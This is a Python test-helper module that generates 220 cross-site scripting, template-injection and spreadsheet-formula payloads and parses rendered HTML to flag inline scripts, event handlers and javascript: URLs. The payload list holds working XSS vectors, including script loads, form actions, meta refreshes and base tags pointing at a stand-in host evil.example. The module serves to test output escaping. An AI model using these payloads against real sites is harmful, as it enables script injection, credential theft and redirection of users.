"""Text that becomes a script, an element, a link or a formula wherever a page or an export forgets itself."""

from html.parser import HTMLParser

__all__ = ["PAYLOADS", "Shape", "hostile", "shape_of"]

_WAYS_OUT = ("", "'>", '">', "`>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</select>", "\\")
_DEEDS = (
    "<script>attack()</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=attack()>",
    "<svg/onload=attack()>",
    "<iframe srcdoc='<script>parent.attack()</script>'></iframe>",
    "<a href=javascript:attack()>看这里</a>",
    "<a href='java\tscript:attack()'>x</a>",
    "<form action=//evil.example><button>提交</button></form>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<style>*{background:url(//evil.example)}</style>",
    "<math><mi xlink:href=javascript:attack()>x</mi></math>",
    "<div hx-get=/logout hx-trigger=load></div>",
    "<details open ontoggle=attack()>",
    '" autofocus onfocus=attack() x="',
    "' onmouseover=attack() x='",
    "{{ 7 * 7 }}{% raw %}${attack()}#{attack()}",
    "&lt;script&gt;attack()&lt;/script&gt;",
    "\\u003cscript\\u003eattack()\\u003c/script\\u003e",
    "%3Cscript%3Eattack()%3C/script%3E",
)

#: 220 of them: every way out of a place in a page, with every deed.
PAYLOADS = tuple(way + deed for way in _WAYS_OUT for deed in _DEEDS)

_CHUNK = 4

Shape = list[tuple[str, tuple[str, ...]]]


def hostile(number: int) -> str:
    """Return a text for the n-th field: all payloads in it, beginning with another one each time."""
    start = (number * _CHUNK) % len(PAYLOADS)
    return f"=1+{number}" + "".join(PAYLOADS[start:] + PAYLOADS[:start])


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.shape: Shape = []
        self.faults: list[str] = []
        self._inline = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        self.shape.append((tag, tuple(sorted(given))))
        for name, value in given.items():
            scheme = "".join((value or "").split()).lower()
            if name.startswith("on") or name == "style":
                self.faults.append(f"<{tag} {name}>")
            if scheme.startswith(("javascript:", "vbscript:", "data:text")):
                self.faults.append(f"<{tag} {name}={scheme[:30]}>")
        if tag == "style" or (tag == "script" and "src" not in given):
            self.faults.append(f"inline <{tag}>")


def shape_of(page: str) -> tuple[Shape, list[str]]:
    """Return a page's elements with their attributes' names, and what a strict policy would refuse."""
    reader = _Reader()
    reader.feed(page)
    reader.close()
    return reader.shape, reader.faults
